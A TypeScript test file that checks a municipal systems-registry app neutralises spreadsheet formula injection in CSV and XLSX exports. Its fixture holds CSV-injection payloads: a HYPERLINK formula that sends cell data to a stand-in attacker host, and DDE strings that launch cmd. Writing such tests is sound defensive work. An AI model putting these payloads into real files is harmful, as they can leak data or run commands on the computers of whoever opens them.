import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type Session, type TestApp } from '../../../../tests/support/test-app.ts';

/** Text one body enters that must not run as a formula in another body's Excel (OWASP CSV injection). */
const HOSTILE = {
  name: '=HYPERLINK("http://attacker.invalid/?q="&A1,"詳細")',
  unit: '+81-82-000-0000',
  vendor: "@SUM(1+1)*cmd|' /C calc'!A0",
  product: "-2+3+cmd|' /C calc'!A0",
  note: '=1+1\r\n2行目',
};

let t: TestApp;
let admin: Session;

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.as('admin');
  const res = await t.request('POST', '/api/systems', {
    as: admin,
    body: {
      ...HOSTILE,
      business: '住民基本台帳',
      hosting: 'オンプレミス',
      yearlyCost: 1_200_000,
      orgCode: '342157',
    },
  });
  expect(res.status, await res.clone().text()).toBe(201);
});
afterAll(() => t.close());

async function download(format: string): Promise<Buffer> {
  const res = await t.request('GET', `/api/systems/export?format=${format}&orgCode=342157`, { as: admin });
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

/** The exported rows as header → cell text. */
function records(text: string): Record<string, string>[] {
  return parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
}

describe('exports neutralise spreadsheet formulas', () => {
  for (const [format, decode] of [
    ['csv', (b: Buffer) => b.toString('utf8')],
    ['csv-cp932', (b: Buffer) => iconv.decode(b, 'cp932')],
  ] as const) {
    it(`${format}: text starting with = + - @ tab or CR gets a leading ', numbers stay numbers`, async () => {
      const [row] = records(decode(await download(format))).filter((r) =>
        r.システム名?.includes('HYPERLINK'),
      );
      expect(row?.システム名).toBe(`'${HOSTILE.name}`);
      expect(row?.担当課).toBe(`'${HOSTILE.unit}`);
      expect(row?.ベンダー).toBe(`'${HOSTILE.vendor}`);
      expect(row?.製品名).toBe(`'${HOSTILE.product}`);
      expect(row?.備考).toBe(`'${HOSTILE.note}`);
      expect(row?.['年間経費（円）']).toBe('1200000');
      expect(row?.団体コード).toBe('342157');
    });
  }

  it('xlsx: the same text is stored as a string cell, not a formula, unchanged', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(await download('xlsx')).buffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no worksheet');
    const headers = (sheet.getRow(1).values as unknown[]).map(String);
    const column = (name: string) => headers.indexOf(name);
    let found = 0;
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      const cell = row.getCell(column('システム名'));
      if (cell.value !== HOSTILE.name) return;
      found++;
      for (const [header, value] of [
        ['システム名', HOSTILE.name],
        ['担当課', HOSTILE.unit],
        ['ベンダー', HOSTILE.vendor],
      ] as const) {
        const c = row.getCell(column(header));
        expect(c.type).toBe(ExcelJS.ValueType.String);
        expect(c.formula).toBeUndefined();
        expect(c.value).toBe(value);
      }
      expect(row.getCell(column('年間経費（円）')).type).toBe(ExcelJS.ValueType.Number);
    });
    expect(found).toBe(1);
  });
});
